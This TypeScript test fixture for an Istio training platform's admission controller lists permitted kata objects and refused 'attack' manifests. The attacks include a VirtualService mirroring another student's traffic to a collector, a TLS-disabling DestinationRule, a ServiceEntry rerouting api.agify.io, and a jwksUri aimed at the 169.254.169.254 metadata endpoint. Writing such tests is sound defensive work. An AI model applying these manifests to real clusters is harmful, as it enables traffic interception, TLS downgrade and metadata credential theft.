/**
 * A mesh course's Istio objects (test/fixtures/classroom/courses/mesh.yaml: course `mesh`, its
 * students Alice and Bob): what the istio-katas write, admitted, and what would reach another
 * student's namespace or make istiod fetch for a student, refused. Evaluated statically in
 * test/security.test.ts; test/cluster/mesh sends the same kinds of objects to a real API server with
 * Istio 1.30.3's CRDs.
 */
import type { AdmissionAttack } from './attacks';
import { asStudent, service } from './requests';

export const MESH_COURSE = 'mesh';

type Meta = { name: string };
const istio = (apiVersion: string, kind: string, metadata: Meta, spec: Record<string, any>) => ({
  apiVersion,
  kind,
  metadata,
  spec,
});
const asMeshStudent = (object: Record<string, any>, student = 'alice') =>
  asStudent(student, 'CREATE', object, { course: MESH_COURSE });

const NS = 'mesh-alice';
const HOST = `${NS}.sentences.${MESH_COURSE}.eficode.academy`;
const v1beta1 = (group: string) => `${group}.istio.io/v1beta1`;

/**
 * The istio-katas objects (github.com/eficode-academy/istio-katas at ab43909), as the katas write
 * them with $STUDENT_NS = mesh-alice and $TRAINING_NAME = mesh, and the kinds the role grants that
 * no kata writes (Sidecar, Telemetry), as a student would.
 */
export const MESH_KATA_OBJECTS: readonly { readonly kata: string; readonly object: Record<string, any> }[] = [
  {
    kata: '03-ingress-traffic/examples/sentences-ingress-gw.yaml',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'Gateway',
      metadata: { name: 'sentences' },
      spec: {
        selector: { app: 'istio-ingressgateway', istio: 'ingressgateway' },
        servers: [{ port: { number: 80, name: 'http', protocol: 'HTTP' }, hosts: [HOST] }],
      },
    },
  },
  {
    kata: '03-ingress-traffic/examples/sentences-ingress-vs.yaml (no exportTo)',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'VirtualService',
      metadata: { name: 'sentences' },
      spec: { hosts: [HOST], gateways: ['sentences'], http: [{ route: [{ destination: { host: 'sentences' } }] }] },
    },
  },
  {
    kata: '05-securing-with-mtls/examples/gateway.yaml (in her namespace, where her gateway reads its Secret)',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'Gateway',
      metadata: { name: `${NS}-sentences` },
      spec: {
        selector: { app: 'istio-ingressgateway', istio: 'ingressgateway' },
        servers: [
          { port: { number: 80, name: 'http', protocol: 'HTTP' }, hosts: [HOST] },
          {
            port: { number: 443, name: 'https', protocol: 'HTTPS' },
            tls: { mode: 'MUTUAL', credentialName: `${NS}-sentences-tls-secret` },
            hosts: [HOST],
          },
        ],
      },
    },
  },
  {
    kata: '01-basic-traffic-routing/examples/name-vs.yaml (exportTo ".")',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'VirtualService',
      metadata: { name: 'name-route' },
      spec: {
        hosts: ['name'],
        exportTo: ['.'],
        gateways: ['mesh'],
        http: [
          { route: [{ destination: { host: 'name', subset: 'name-v1' } }] },
          { route: [{ destination: { host: 'name', subset: 'name-v2' } }] },
        ],
      },
    },
  },
  {
    kata: '01-basic-traffic-routing/examples/name-dr.yaml (exportTo ".", subsets v1/v2)',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'DestinationRule',
      metadata: { name: 'name-destination-rule' },
      spec: {
        host: 'name',
        exportTo: ['.'],
        subsets: [
          { name: 'name-v1', labels: { version: 'v1' } },
          { name: 'name-v2', labels: { version: 'v2' } },
        ],
      },
    },
  },
  {
    kata: '05-securing-with-mtls/examples/name-vs-dr.yaml, DestinationRule with exportTo her namespace by name',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'DestinationRule',
      metadata: { name: 'name' },
      spec: {
        host: 'name',
        exportTo: [NS],
        subsets: [
          { name: 'name-v1', labels: { version: 'v1' }, trafficPolicy: { tls: { mode: 'DISABLE' } } },
          { name: 'name-v2', labels: { version: 'v2' }, trafficPolicy: { tls: { mode: 'ISTIO_MUTUAL' } } },
        ],
      },
    },
  },
  {
    kata: '04-egress-traffic/examples/httpbin-se.yaml (exportTo ".")',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'ServiceEntry',
      metadata: { name: 'httpbin' },
      spec: {
        hosts: ['httpbin.org'],
        exportTo: ['.'],
        location: 'MESH_EXTERNAL',
        ports: [{ number: 80, name: 'http-port', protocol: 'HTTP' }],
        resolution: 'DNS',
      },
    },
  },
  {
    kata: 'ServiceEntry api.agify.io (exportTo ".")',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'ServiceEntry',
      metadata: { name: 'agify' },
      spec: {
        hosts: ['api.agify.io'],
        exportTo: ['.'],
        location: 'MESH_EXTERNAL',
        ports: [{ number: 443, name: 'https', protocol: 'TLS' }],
        resolution: 'DNS',
      },
    },
  },
  {
    kata: 'config/httpbin-egress-gw.yaml (the exit gateway, here in her namespace: istio: egressgateway)',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'Gateway',
      metadata: { name: 'httpbin-exit-gateway' },
      spec: {
        selector: { istio: 'egressgateway' },
        servers: [{ port: { number: 80, name: 'http', protocol: 'HTTP' }, hosts: ['httpbin.org'] }],
      },
    },
  },
  {
    kata: '04-egress-traffic/examples/httpbin-egress-vs.yaml (through her egress gateway)',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'VirtualService',
      metadata: { name: 'httpbin' },
      spec: {
        hosts: ['httpbin.org'],
        exportTo: ['.'],
        gateways: ['mesh', 'httpbin-exit-gateway'],
        http: [
          {
            match: [{ port: 80, gateways: ['mesh'] }],
            route: [{ destination: { host: `istio-egressgateway.${NS}.svc.cluster.local` } }],
          },
          { match: [{ port: 80, gateways: ['httpbin-exit-gateway'] }], route: [{ destination: { host: 'httpbin.org' } }] },
        ],
      },
    },
  },
  {
    kata: '05-securing-with-mtls/examples/strict-pa.yaml (STRICT)',
    object: {
      apiVersion: v1beta1('security'),
      kind: 'PeerAuthentication',
      metadata: { name: 'default', namespace: NS },
      spec: { mtls: { mode: 'STRICT' } },
    },
  },
  {
    kata: '06-service-access-control/examples/authz-policy.yaml',
    object: {
      apiVersion: v1beta1('security'),
      kind: 'AuthorizationPolicy',
      metadata: { name: 'allow-sentences-to-name' },
      spec: {
        selector: { matchLabels: { app: 'sentences', mode: 'name' } },
        action: 'ALLOW',
        rules: [
          {
            from: [{ source: { principals: [`cluster.local/ns/${NS}/sa/sentences`] } }],
            to: [{ operation: { methods: ['GET'], paths: ['/'] } }],
          },
        ],
      },
    },
  },
  {
    kata: 'Sidecar (egress to her namespace and istio-system)',
    object: {
      apiVersion: v1beta1('networking'),
      kind: 'Sidecar',
      metadata: { name: 'default' },
      spec: { egress: [{ hosts: ['./*', 'istio-system/*'] }], outboundTrafficPolicy: { mode: 'REGISTRY_ONLY' } },
    },
  },
  {
    kata: 'Telemetry (tracing sampling, 08-distributed-tracing)',
    object: {
      apiVersion: 'telemetry.istio.io/v1',
      kind: 'Telemetry',
      metadata: { name: 'sentences-tracing' },
      spec: { selector: { matchLabels: { app: 'sentences' } }, tracing: [{ randomSamplingPercentage: 100 }] },
    },
  },
  {
    kata: 'wip/authn/req-authn.yaml (inline jwks, the key of jwt/jwks.json)',
    object: {
      apiVersion: v1beta1('security'),
      kind: 'RequestAuthentication',
      metadata: { name: 'jwt-req' },
      spec: {
        selector: { matchLabels: { app: 'sentences', mode: 'sentence' } },
        jwtRules: [
          {
            issuer: 'https://github.com/MichaelVL/istio-katas',
            jwks: JSON.stringify({
              keys: [
                {
                  e: 'AQAB',
                  kid: '123',
                  kty: 'RSA',
                  n: 'ubuUq5VKFgxz1nxATyf1GlYFqzMzs9kUjsp3lT9WiNIM6rt6t4-g6pLIPyWLvErtNTYRJezaBIsYAZ7DaAGTQfaC7SDxHb0OpWKlddFi2T5am77kF-5_NvaDgR_qOcqbVxeVKeqGrhYjUIKH_UzoPDO6YHwYk5nRp6tJPOLLEdLlA_1MTKNCfCtQNqcLCLPnq8UK9ptNKgp27nHymxl4OyfVvWzhnQBctdyzfYpRSw_K6_md3pp0Q_C90tdxUHV5D-6C0goqr-he14VAdsP6NxWET5Vi4dLytLkgfx5aehsKOEmCoo-7jT6gKYrfXlv2NoBED1e0rXT8PwiJu7w3hw',
                },
              ],
            }),
          },
        ],
      },
    },
  },
];

/** Alice's requests for MESH_KATA_OBJECTS. */
export const MESH_KATA_REQUESTS = MESH_KATA_OBJECTS.map(({ kata, object }) => ({ name: kata, request: asMeshStudent(object) }));

export const MESH_ATTACKS: readonly AdmissionAttack[] = [
  {
    finding: '32.7',
    by: 'dojo-student-mesh',
    name: "VirtualService exported everywhere: Bob's sentences, and Bob's gateway, routed by Alice",
    request: asMeshStudent(
      istio(
        'networking.istio.io/v1',
        'VirtualService',
        { name: 'steal' },
        {
          hosts: ['sentences.mesh-bob.svc.cluster.local', 'mesh-bob.sentences.mesh.eficode.academy'],
          exportTo: ['*'],
          gateways: ['mesh', 'mesh-bob/sentences'],
          http: [
            {
              mirror: { host: 'collector.mesh-alice.svc.cluster.local' },
              route: [{ destination: { host: 'sentences.mesh-bob.svc.cluster.local' } }],
            },
          ],
        },
      ),
    ),
  },
  {
    finding: '32.7',
    by: 'dojo-student-mesh',
    name: "DestinationRule exported to Bob's namespace",
    request: asMeshStudent(
      istio(
        'networking.istio.io/v1',
        'DestinationRule',
        { name: 'downgrade' },
        {
          host: 'age.mesh-bob.svc.cluster.local',
          exportTo: ['mesh-bob'],
          trafficPolicy: { tls: { mode: 'DISABLE' } },
        },
      ),
    ),
  },
  {
    finding: '32.7',
    by: 'dojo-student-mesh',
    name: "ServiceEntry exported everywhere, claiming an outside host for every student's sidecars",
    request: asMeshStudent(
      istio(
        'networking.istio.io/v1',
        'ServiceEntry',
        { name: 'claim' },
        {
          hosts: ['api.agify.io'],
          exportTo: ['*'],
          ports: [{ number: 443, name: 'tls', protocol: 'TLS' }],
          resolution: 'STATIC',
          endpoints: [{ address: '203.0.113.7' }],
        },
      ),
    ),
  },
  {
    finding: '32.7',
    by: 'dojo-student-mesh',
    name: "Service exported to every namespace's sidecars by its annotation",
    request: asMeshStudent(service({}, { 'networking.istio.io/exportTo': '*' })),
  },
  {
    finding: '32.7',
    by: 'dojo-student-mesh',
    name: 'RequestAuthentication whose jwksUri makes istiod fetch the instance metadata',
    request: asMeshStudent(
      istio(
        'security.istio.io/v1',
        'RequestAuthentication',
        { name: 'fetch' },
        {
          jwtRules: [{ issuer: 'x', jwksUri: 'http://169.254.169.254/latest/meta-data/' }],
        },
      ),
    ),
  },
  {
    finding: '32.7',
    by: 'dojo-student-mesh',
    refusedFirstBy: 'RBAC',
    name: 'EnvoyFilter (raw Envoy configuration)',
    request: asMeshStudent(
      istio(
        'networking.istio.io/v1alpha3',
        'EnvoyFilter',
        { name: 'raw' },
        {
          configPatches: [{ applyTo: 'HTTP_FILTER', patch: { operation: 'INSERT_BEFORE', value: { name: 'envoy.lua' } } }],
        },
      ),
    ),
  },
  {
    finding: '32.7',
    by: 'dojo-student-mesh',
    refusedFirstBy: 'RBAC',
    name: 'WasmPlugin (code the agent fetches)',
    request: asMeshStudent(
      istio('extensions.istio.io/v1alpha1', 'WasmPlugin', { name: 'code' }, { url: 'oci://ghcr.io/example/plugin:1' }),
    ),
  },
];
